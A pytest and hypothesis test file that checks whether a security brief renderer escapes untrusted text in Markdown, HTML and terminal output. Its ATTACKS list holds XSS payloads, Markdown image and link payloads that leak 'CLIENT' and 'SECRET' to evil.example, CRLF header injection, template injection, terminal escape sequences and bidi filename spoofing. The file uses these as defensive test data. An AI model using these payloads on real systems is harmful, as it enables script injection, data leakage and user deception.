"""Text of others stays text: in Markdown, in HTML and in the terminal, whatever it holds."""

from __future__ import annotations

import io
import json
import unicodedata
from html.parser import HTMLParser
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from markdown_it.token import Token
from rich.console import Console

from advisor.brief.portfolio import compose_portfolio
from ui.render.escape import foreign, markdown_link, markdown_text, shown
from ui.render.html import brief_html, portfolio_html
from ui.render.markdown import brief_markdown, portfolio_markdown
from ui.render.terminal import portfolio_terminal

ATTACKS = (
    "<script>alert(1)</script>",
    "<img src=https://evil.example/p.png onerror=alert(1)>",
    "![logo](https://evil.example/c?d=CLIENT)",
    "[details](https://evil.example/?q=SECRET)",
    "](https://evil.example) [x",
    "<https://evil.example>",
    "https://evil.example/path",
    "HTTPS://evil.example",
    "www.evil.example",
    "javascript:alert(1)",
    "mail me@evil.example",
    "<!channel> <@U123> <http://evil.invalid|bank.com> *bold*",
    "subject\r\nBcc: victim@example.com",
    "# heading\n## another",
    "- item\n- item",
    "1. item",
    "> quote",
    "```\ncode\n```",
    "| a | b |\n|---|---|",
    "---",
    "===",
    "&lt;script&gt; &#60;script&#62;",
    "{{ 7*7 }} {% include 'x' %}",
    '" onmouseover="alert(1)',
    "' style='background:url(https://evil.example)'",
    "[bold red]markup[/] [link=https://evil.example]x[/link]",
    "\x1b[31mred\x1b[0m \x1b]8;;https://evil.example\x07link\x1b]8;;\x07 \x9b31m",
    "safe\u202egnp.exe\u2066\u200b\ufeff\U000e0041",
    "[ref]: https://evil.example",
    "\\[x](https://evil.example)",
    "a&b <b>bold</b>",
    "$$x$$ ~~y~~ `z`",
)

hostile_text = st.one_of(
    st.sampled_from(ATTACKS),
    st.text(max_size=60),
    st.lists(
        st.sampled_from([*"<>[]()!*_`#|&\\\"'~-=+.:@/ \n\r\t", "http", "https://", "www.", "a", "1", "\u202e"]),
        max_size=25,
    ).map("".join),
)

PLAIN = MarkdownIt("commonmark").enable(["table", "strikethrough"])


def inline(tokens: list[Token]) -> list[Token]:
    return [child for token in tokens for child in (token.children or [])]


def poisoned(clinic: Any, text: str) -> Any:
    """A brief in which every field that others write holds the text."""
    lb = clinic.LB.model_copy(update=dict.fromkeys(("name", "vendor", "product", "origin"), text) | {"id": text or "x"})
    party = clinic.BRIGHTLINE.model_copy(
        update={
            **dict.fromkeys(("name", "service", "contact", "contract"), text),
            "tools": (clinic.ToolUsed(vendor=text, product=text or "x"),),
        }
    )
    story_items = (clinic.N1, clinic.C_NCENTRAL)
    news = {"n-1": clinic.news("n-1", text, "s4", clinic.FRIDAY, text)}
    kev = {clinic.NCENTRAL: clinic.KEV[clinic.NCENTRAL].model_copy(update={"vendor": text, "product": text})}
    verdicts = (
        clinic.verdict(clinic.N1, "vendor-only", party, cves=(clinic.NCENTRAL,), words=text, fixed_in=(text,),
                       question=text),
        clinic.verdict(clinic.C_NCENTRAL, "affected", lb, cves=(clinic.NCENTRAL,), reason=text, fixed_in=(text,)),
        clinic.verdict(clinic.C_FORTIOS, "version-not-affected", clinic.FW.model_copy(update={"name": text}),
                       cves=(clinic.FORTIOS,), reason=text),
    )  # fmt: skip
    sources = (clinic.SOURCES[-1].model_copy(update={"title": text, "sentence": text}),)
    client = clinic.CLIENT.model_copy(update={"name": text or "x", "sector": text, "jurisdictions": (text,)})
    first = clinic.brief(
        client=client,
        verdicts=verdicts,
        stories=(clinic.story("s-1", story_items, (clinic.NCENTRAL,)),),
        look=clinic.facts(
            news=news,
            kev=kev,
            assets={lb.id: lb},
            third_parties={party.id: party},
            publishers={"s4": text},
            sources=sources,
        ),
    )
    return first.model_copy(update={"open_notes": (clinic.note("b-0", "note", text=text),)})


class Tags(HTMLParser):
    def __init__(self, html: str) -> None:
        super().__init__()
        self.seen: list[tuple[str, tuple[str, ...]]] = []
        self.hrefs: list[str] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.seen.append((tag, tuple(sorted(key for key, _ in attrs))))
        self.hrefs += [value or "" for key, value in attrs if key == "href"]


ALLOWED = {"html", "head", "meta", "title", "style", "body", "table", "tbody", "thead", "tr", "td", "th", "h1", "h2",
           "h3", "p", "div", "ul", "li", "strong", "span", "a", "br"}  # fmt: skip


def check_markdown(text: str, own: set[str]) -> None:
    tokens = PLAIN.parse(text)
    assert not any(token.type in {"html_block", "html_inline", "image", "fence", "code_block"} for token in tokens)
    assert not any(token.type in {"html_inline", "image", "code_inline", "s_open"} for token in inline(tokens))
    links = [str(token.attrs["href"]) for token in inline(tokens) if token.type == "link_open"]
    assert set(links) <= own
    assert "<!" not in text


def check_visible(text: str) -> None:
    for char in text:
        assert char == "\n" or unicodedata.category(char) not in {"Cc", "Cf", "Cs", "Co"}, hex(ord(char))


def own_links(brief: Any) -> set[str]:
    return {link.url for item in brief.items for link in item.sources if link.url}


def skeleton(text: str) -> list[str]:
    """Block structure alone: what the page is made of, without its words."""
    return [token.type for token in PLAIN.parse(text) if token.type != "inline"]


@pytest.mark.parametrize("attack", ATTACKS)
def test_c12_attacks_stay_inert_in_every_face(clinic: Any, attack: str) -> None:
    brief = poisoned(clinic, attack)
    page = compose_portfolio((brief,), {"x": attack}, clinic.FRIDAY)
    harmless = poisoned(clinic, "Harmless")
    for markdown, calm in (
        (brief_markdown(brief), brief_markdown(harmless)),
        (
            portfolio_markdown(page),
            portfolio_markdown(compose_portfolio((harmless,), {"x": "Harmless"}, clinic.FRIDAY)),
        ),
    ):
        check_markdown(markdown, own_links(brief))
        check_visible(markdown)
        assert skeleton(markdown) == skeleton(calm)
    for html in (brief_html(brief), portfolio_html(page)):
        tags = Tags(html)
        assert {tag for tag, _ in tags.seen} <= ALLOWED
        assert not any(key.startswith("on") or key in {"src", "style"} for _, keys in tags.seen for key in keys)
        assert set(tags.hrefs) <= own_links(brief)
        check_visible(html)


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(text=hostile_text)
def test_any_text_stays_inert_in_every_face(clinic: Any, text: str) -> None:
    brief = poisoned(clinic, text)
    check_markdown(brief_markdown(brief), own_links(brief))
    tags = Tags(brief_html(brief))
    assert {tag for tag, _ in tags.seen} <= ALLOWED
    assert set(tags.hrefs) <= own_links(brief)
    check_visible(brief_html(brief))


@settings(max_examples=400, deadline=None)
@given(text=hostile_text)
def test_markdown_text_is_one_paragraph_of_text(text: str) -> None:
    line = markdown_text(text)
    for markdown in (line, f"- {line}", f"> {line}", f"### {line}", f"**Why:** {line}"):
        assert not {token.type for token in inline(PLAIN.parse(markdown))} - {
            "text",
            "strong_open",
            "strong_close",
            "text_special",
        }
    blocks = {token.type for token in PLAIN.parse(line)}
    assert blocks <= {"paragraph_open", "inline", "paragraph_close"}


@settings(max_examples=300, deadline=None)
@given(text=hostile_text)
def test_markdown_shows_the_words_as_written(text: str) -> None:
    tokens = inline(PLAIN.parse(markdown_text(text)))
    assert "".join(token.content for token in tokens) == shown(text)


@settings(max_examples=300, deadline=None)
@given(text=hostile_text)
def test_shown_twice_is_shown_once(text: str) -> None:
    assert shown(shown(text)) == shown(text)
    assert foreign(foreign(text)) == foreign(text)


@settings(max_examples=300, deadline=None)
@given(text=hostile_text, url=hostile_text)
def test_markdown_link_goes_nowhere_else(text: str, url: str) -> None:
    links = [token for token in inline(PLAIN.parse(markdown_link(text, url))) if token.type == "link_open"]
    assert all(token.attrs["href"] == url for token in links)
    assert len(links) <= 1


@pytest.mark.parametrize("attack", ATTACKS)
def test_c12_no_address_is_live_in_bare_text(attack: str) -> None:
    for words in (shown(attack), foreign(attack)):
        lowered = words.lower()
        assert "http://" not in lowered
        assert "https://" not in lowered
        assert "javascript:a" not in lowered
        assert "www.e" not in lowered
    assert "@U" not in foreign(attack)


@pytest.mark.parametrize("attack", ATTACKS)
def test_terminal_shows_text_without_steering(clinic: Any, attack: str) -> None:
    page = compose_portfolio((poisoned(clinic, attack),), {"x": attack}, clinic.FRIDAY)
    console = Console(file=io.StringIO(), width=200, force_terminal=False, color_system=None)
    console.print(portfolio_terminal(page))
    assert isinstance(console.file, io.StringIO)
    check_visible(console.file.getvalue())
    if attack.startswith("[bold red]"):
        assert "[bold red]markup[/]" in console.file.getvalue()


def test_json_keeps_everything_and_reads_back(clinic: Any) -> None:
    brief = poisoned(clinic, ATTACKS[0])
    again = type(brief).model_validate_json(brief.model_dump_json())
    assert again == brief
    assert json.loads(brief.model_dump_json())["items"][0]["verdicts"]
